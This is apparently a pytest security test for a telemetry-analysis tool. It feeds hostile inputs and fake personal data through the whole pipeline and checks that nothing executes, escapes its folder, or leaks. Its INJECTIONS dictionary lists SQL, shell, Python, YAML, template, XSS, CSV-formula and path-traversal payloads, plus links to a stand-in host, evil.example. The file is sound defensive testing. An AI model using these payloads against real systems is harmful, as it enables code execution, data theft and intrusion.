"""Names, messages and payloads that want to be run, and marked personal data, walk the whole line.

Afterwards nothing was run (SQL, shell, Python, templates, a page, a spreadsheet, YAML, a terminal), no
file stands outside its folder, and none of the marks is in any byte that was written or said.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import polars as pl
import pytest
from markdown_it import MarkdownIt

from evolution_lab.cli import main
from evolution_lab.lab import Lab
from evolution_lab.pipeline.alerts import Alert, AlertDesk, AlertRules, CallableReceiver
from evolution_lab.records import to_json

CANARY = "CANARY_OF_THE_LINE"
START = datetime(2026, 5, 4, tzinfo=UTC)
INJECTIONS = {
    "sql": "'; DROP TABLE spec_suggestions; --",
    "sql copy": f"x') ; COPY (SELECT 1) TO '{CANARY}'; --",
    "shell": f"$(touch {CANARY})",
    "shell ticks": f"`touch {CANARY}`; touch {CANARY}; | touch {CANARY}",
    "python": f'"""+str(open("{CANARY}","w").close())+"""',
    "python format": f"{{__import__('os').system('touch {CANARY}')}}",
    "python backslash": f"\\'); open('{CANARY}','w'); ('",
    "typescript": f"${{require('fs').writeFileSync('{CANARY}','')}}",
    "typescript lines": f"'\u2028require('fs').writeFileSync('{CANARY}','')//`",
    "script": f"<script>window.{CANARY}=1</script>",
    "image": f"<img src=x onerror=\"window.{CANARY}=1\">",
    "end of script": f"</script><script>window.{CANARY}=1</script><!--",
    "markdown": f"[x](javascript:window.{CANARY}=1) | ![y](http://evil.example/{CANARY}) `` ` ",
    "spreadsheet": f'=HYPERLINK("http://evil.example/{CANARY}","x")',
    "spreadsheet plus": "+cmd|' /C calc'!A0",
    "spreadsheet at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "yaml": f"!!python/object/apply:os.system ['touch {CANARY}']",
    "yaml lines": f"a: b\n- c: &x *x\n{CANARY}: true",
    "terminal": f"\x1b]0;{CANARY}\x07\x1b[2J\x9b31m\r\x08",
    "direction": "\u202egpj.exe\u2066",
    "file name": f"../../../{CANARY}",
    "absolute": f"/tmp/{CANARY}/../{CANARY}\x00.html",
    "long": "x" * 3000,
    "jinja": "{{ 7 * 191 }}{% raise %}{{ cycler.__init__.__globals__ }}",
    "prototype": "__proto__",
}  # fmt: skip
MARKS = {
    "mail": "mark.ada.7f3a@example.org",
    "telephone": "+49 30 90182776",
    "card": "4111 1111 1111 1111",
    "iban": "DE89 3704 0044 0532 0130 00",
    "token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJtYXJrLTdmM2EifQ.c2lnbmF0dXJlLW1hcms",
    "key": "sk_live_51H8mark7f3aQ9zXw2vB4nM6",
    "address": "203.0.113.77",
    "actor": "user-mark-7f3a",
    "session": "session-mark-7f3a",
    "last name": "Markingtonowski",
    "password": "hunter2-mark-7f3a",
}


@dataclass
class Walk:
    """What a walk down the line left behind.

    Attributes:
        folder: All of it.
        lab: The lab directory.
        reports: The reports.
        said: Everything that commands printed, by command.
        operations: The operations of the calls.
    """

    folder: Path
    lab: Path
    reports: Path
    said: dict[str, str] = field(default_factory=dict)
    operations: tuple[str, ...] = ()


def telemetry(folder: Path) -> Path:
    """Calls of hostile operations, each with a fault in the last quarter; marks in what is stored."""
    rng, rows = np.random.default_rng(5), []
    about = " ".join(MARKS[name] for name in ("mail", "telephone", "card", "iban", "token", "key"))
    for number, name in enumerate(INJECTIONS.values()):
        for minute in range(0, 240, 2):
            failing = minute >= 180 and number % 2 == 0
            slow = 8 if minute >= 180 and number % 2 else 1
            for _ in range(2):
                failed = bool(rng.random() < (0.7 if failing else 0.01))
                rows.append(
                    {
                        "service": name[:40] if number % 3 == 0 else "shop",
                        "operation": name,
                        "at": (START + timedelta(minutes=minute, seconds=float(rng.uniform(0, 119)))).isoformat(),
                        "ms": float(rng.gamma(20, 1)) * slow,
                        "success": not failed,
                        "code": name[:60] if failed else None,
                        "message": f"{name} of {about}" if failed else None,
                        "tenant": name[:50],
                        "actor": MARKS["actor"],
                        "session": MARKS["session"],
                    }
                )  # fmt: skip
    path = folder / f"export of {MARKS['mail']}.csv"
    pl.DataFrame(rows).write_csv(path)
    return path


def spans(folder: Path) -> Path:
    """Spans with marks wherever a span has room for text."""
    attributes = [
        {"key": "url.full", "value": {"stringValue": f"https://h/?mail={MARKS['mail']}&token={MARKS['token']}"}},
        {"key": "http.route", "value": {"stringValue": "/users/{id}"}},
        {"key": "http.request.method", "value": {"stringValue": "GET"}},
        {"key": "http.response.status_code", "value": {"intValue": "500"}},
        {"key": "enduser.id", "value": {"stringValue": MARKS["actor"]}},
        {"key": "client.address", "value": {"stringValue": MARKS["address"]}},
        {"key": "http.request.header.authorization", "value": {"stringValue": f"Bearer {MARKS['token']}"}},
        {"key": "db.statement", "value": {"stringValue": f"SELECT '{MARKS['card']}'"}},
    ]  # fmt: skip
    made = [
        {
            "traceId": f"{n + 1:032x}", "spanId": f"{n + 1:016x}", "kind": 2,
            "name": f"GET /users/{MARKS['mail']}", "attributes": attributes,
            "startTimeUnixNano": str(int((START + timedelta(minutes=n)).timestamp()) * 10**9),
            "endTimeUnixNano": str(int((START + timedelta(minutes=n)).timestamp()) * 10**9 + 5_000_000),
            "status": {"code": 2, "message": f"no {MARKS['mail']}"},
            "events": [{"name": "exception", "attributes": [
                {"key": "exception.message", "value": {"stringValue": f"{MARKS['key']} {MARKS['iban']}"}}]}],
        }
        for n in range(50)
    ]  # fmt: skip
    broken = f'{{"resourceSpans": "{MARKS["mail"]} {MARKS["token"]}'
    path = folder / "spans.jsonl"
    request = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": made}]}]})
    path.write_text(f"{request}\n{broken}\n")
    return path


def calls(folder: Path) -> Path:
    """Recorded calls with hostile and marked bodies, headers and queries."""
    entries = []
    for number, text in enumerate((*INJECTIONS.values(), *INJECTIONS.values())):
        body = {
            "email": MARKS["mail"], "phone": MARKS["telephone"], "cardNumber": MARKS["card"],
            "lastName": MARKS["last name"], "password": MARKS["password"], "iban": MARKS["iban"],
            "note": f"{text} {MARKS['mail']}", "status": text, text[:80] or "k": number,
        }  # fmt: skip
        answer = json.dumps({"id": number, "status": text, "email": MARKS["mail"], "kind": "order"})
        entries.append(
            {
                "startedDateTime": (datetime.now(UTC) - timedelta(hours=1, seconds=number)).isoformat(),
                "time": 5,
                "request": {
                    "method": "POST", "url": f"https://shop.example/orders?mail={MARKS['mail']}&q=1",
                    "httpVersion": "HTTP/1.1", "queryString": [], "cookies": [
                        {"name": "session", "value": MARKS["session"]}],
                    "headers": [{"name": "Authorization", "value": f"Bearer {MARKS['token']}"},
                                {"name": "Content-Type", "value": "application/json"}],
                    "postData": {"mimeType": "application/json", "text": json.dumps(body)},
                },
                "response": {
                    "status": 201, "headers": [{"name": "Content-Type", "value": "application/json"},
                                               {"name": "Set-Cookie", "value": MARKS["session"]}],
                    "content": {"mimeType": "application/json", "text": answer, "size": len(answer)},
                },
            }
        )  # fmt: skip
    path = folder / "calls.har"
    document = {"log": {"version": "1.2", "creator": {"name": "x"}, "entries": entries}}
    path.write_text(json.dumps(document))
    return path


@pytest.fixture(scope="module")
def walk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Walk]:
    """Walk the line once, with the working directory in the folder."""
    folder = tmp_path_factory.mktemp("line")
    sources = tmp_path_factory.mktemp("sources")
    found = Walk(folder, folder / "lab", folder / "reports")
    before = Path.cwd()
    os.chdir(folder)
    try:
        table, traced, har = telemetry(sources), spans(sources), calls(sources)
        roles = ["operation=operation", "timestamp=at", "duration=ms:ms", "success=success",
                 "error_code=code", "error_message=message", "tenant=tenant", "actor=actor",
                 "session=session", "service=service"]  # fmt: skip
        mapped = [part for role in roles for part in ("--map", role)]
        _say(found, "land", str(table), *mapped)
        _say(found, "land", str(traced))
        _say(found, "record", "--from", str(har))
        _say(found, "windows", "--every", "5m")
        _say(found, "detect", "--every", "5m")
        _say(found, "detect", "--every", "5m", "--json")
        _say(found, "suggest", "--every", "5m")
        _say(found, "suggestions", "list")
        lab = Lab(found.lab)
        for suggestion in lab.suggestions("pending")[:3]:
            _say(found, "suggestions", "show", suggestion.id)
            _say(found, "suggestions", "approve", suggestion.id, "--reviewer", "ada")
        _say(found, "mute", INJECTIONS["image"], "--until", "2h", "--why", INJECTIONS["script"])
        _say(found, "report", "--every", "5m", "--output", "reports", "--csv")
        found.operations = tuple(INJECTIONS.values())
        for framework, name in (("pytest", "golden_py"), ("vitest", "golden_ts")):
            _say(found, "test", "generate-all", "--output", name, "--framework", framework,
                 "--runner-import", "runner", "--runner-fn", "run")  # fmt: skip
        lab.export(folder / "export.zip", every="5m")
        detection = lab.detect(every="5m")
        found.said["a notebook"] = detection._repr_html_() + str(lab.suggestions())
        told: list[Alert] = []
        desk = AlertDesk(
            found.lab, [CallableReceiver(function=told.append, name="alert-hook:here")]
        )
        desk.see(detection, AlertRules())
        desk.tell()
        assert told
        found.said["alerts"] = to_json(told).decode()
        yield found
    finally:
        os.chdir(before)


def _say(walk: Walk, *command: str) -> None:
    """Run a command as a terminal would, and keep what it prints."""
    out, told = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(told):
        code = main([*command, "--data", "lab"])
    walk.said[f"{' '.join(command)[:60]} #{len(walk.said)}"] = out.getvalue() + told.getvalue()
    assert code in {0, 1}, told.getvalue()[-1500:]


def test_the_line_was_walked(walk: Walk):
    lab = Lab(walk.lab)
    assert len(lab.detect(every="5m").signals) >= 10
    assert len(lab.suggestions()) >= 3
    assert (walk.reports / "suggestions.html").is_file()
    assert list(walk.folder.glob("golden_py/**/*.py"))
    assert list(walk.folder.glob("golden_ts/**/*.ts"))


def test_nothing_was_run_and_no_file_stands_elsewhere(walk: Walk):
    for place in (walk.folder, *walk.folder.parents[:3], Path("/tmp"), Path.home()):
        assert not (place / CANARY).exists()
    assert [
        p for p in walk.folder.rglob(f"*{CANARY}*") if p.is_file() and not p.stat().st_size
    ] == []
    known = {"lab", "reports", "golden_py", "golden_ts", "export.zip"}
    assert {path.name for path in walk.folder.iterdir()} <= known
    with duckdb.connect(str(walk.lab / "evolution.duckdb"), read_only=True) as state:
        tables = {row[0] for row in state.execute("SHOW TABLES").fetchall()}
    assert {"spec_suggestions", "suggestion_decisions", "intent_snapshots"} <= tables
    for path in walk.folder.rglob("*"):
        assert path.resolve().is_relative_to(walk.folder.resolve())
        assert len(path.name) < 200


def test_terminals_get_no_control_characters(walk: Walk):
    for command, said in walk.said.items():
        if command in {"a notebook", "alerts"}:
            continue  # Neither goes to a terminal.
        odd = {character for character in said if not character.isprintable() and character != "\n"}
        assert odd == set(), command


def test_spreadsheets_get_no_formula(walk: Walk):
    tables = list(walk.reports.rglob("*.csv"))
    assert tables
    for path in tables:
        for row in csv.reader(io.StringIO(path.read_bytes().decode(), newline="")):
            assert [cell for cell in row if cell[:1] in {"=", "+", "@", "\t", "\r"}] == []
            assert [c for c in row if c[:1] == "-" and not c[1:2].isdigit()] == []


def test_markdown_is_text(walk: Walk):
    html = (
        MarkdownIt("commonmark", {"html": True})
        .enable("table")
        .render((walk.reports / "suggestions.md").read_text())
    )
    for said in (f"window.{CANARY}=1</script>", "<img", "javascript:window"):
        for before in ("<script>", 'href="', "<a"):
            assert f"{before}{said}" not in html
    assert "<script" not in html
    assert "<img" not in html
    assert 'href="javascript:' not in html


def test_generated_python_is_text(walk: Walk, tmp_path: Path):
    (tmp_path / "runner.py").write_text("def run(sent, metadata):\n    return {}\n")
    suites = list(walk.folder.glob("golden_py/**/*.py"))
    for path in suites:
        compile(path.read_text(), path.name, "exec")
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-x", "-p", "no:cacheprovider", str(suites[0])],
        cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(tmp_path)}, capture_output=True,
        text=True, check=False, timeout=120,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    assert not (tmp_path / CANARY).exists()


def test_stored_yaml_and_json_say_the_same_again(walk: Walk):
    import yaml

    read = 0
    for path in walk.folder.rglob("*"):
        if path.suffix in {".yaml", ".yml"}:
            yaml.safe_load(path.read_text())
            read += 1
        elif path.suffix == ".json":
            json.loads(path.read_bytes())
            read += 1
    assert read >= 3


@pytest.mark.browser
def test_pages_run_nothing(walk: Walk, chromium: Any):
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    context.set_offline(True)
    page, seen = context.new_page(), list[str]()
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("request", lambda asked: seen.append(asked.url) if asked.url[:5] != "file:" else None)
    page.goto((walk.reports / "suggestions.html").as_uri())
    page.wait_for_selector("html[data-drawn]", timeout=60_000)
    assert page.evaluate(f"window.{CANARY}") is None
    assert page.evaluate("document.querySelectorAll('img[src=x], a[href^=javascript]').length") == 0
    assert [each for each in seen if not each.startswith(("data:", "blob:"))] == []
    # The words themselves are there, as text.
    assert f"window.{CANARY}=1" in page.inner_text("body")
    context.close()


@pytest.mark.browser
def test_the_review_page_runs_nothing(walk: Walk, chromium: Any):
    from evolution_lab.review import ReviewServer

    with ReviewServer(Lab(walk.lab).review_board(reviewer="ada", every="5m")) as server:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(server.url)
        page.locator(".er-detail h2").wait_for(timeout=60_000)
        for row in page.locator(".er-list li, .er-row").all()[:15]:
            row.click()
            page.wait_for_timeout(50)
        assert page.evaluate(f"window.{CANARY}") is None
        assert page.evaluate("document.querySelectorAll('img[src=x]').length") == 0
        context.close()


def _forms(mark: str) -> set[bytes]:
    """A mark as it stands, without its spaces, escaped for addresses, and in base64."""
    from urllib.parse import quote

    plain = mark.encode()
    coded = {base64.b64encode(plain + pad)[:-4] for pad in (b"", b"x", b"xx")}
    return {plain, mark.replace(" ", "").encode(), quote(mark, safe="").encode(), *coded}


def _bytes_of(path: Path) -> Iterator[bytes]:
    """A file's own bytes, and what they hold: columns, tables, members."""
    yield path.read_bytes()
    if path.suffix == ".parquet":
        frame = pl.read_parquet(path, hive_partitioning=False)
        yield str(frame.to_dicts()).encode()
    elif path.suffix == ".duckdb":
        with duckdb.connect(str(path), read_only=True) as state:
            for (name,) in state.execute("SHOW TABLES").fetchall():
                rows = state.execute(f'SELECT COLUMNS(*)::VARCHAR FROM "{name}"')
                yield repr(rows.fetchall()).encode()
    elif path.suffix == ".zip":
        with zipfile.ZipFile(path) as whole:
            for name in whole.namelist():
                yield name.encode()
                yield whole.read(name)


def test_no_mark_is_left_in_any_byte(walk: Walk):
    left = []
    for path in sorted(walk.folder.rglob("*")):
        if not path.is_file() or "__pycache__" in path.parts:
            continue
        for content in _bytes_of(path):
            for name, mark in MARKS.items():
                if any(form in content for form in _forms(mark)):
                    left.append(f"{name} in {path.relative_to(walk.folder)}")
    for command, said in walk.said.items():
        # What the person typed is theirs to see: the name of the file that they landed.
        told = said.encode().replace(f"export of {MARKS['mail']}.csv".encode(), b"")
        left += [
            f"{name} in {command}"
            for name, mark in MARKS.items()
            if any(form in told for form in _forms(mark))
        ]
    assert sorted(set(left)) == []
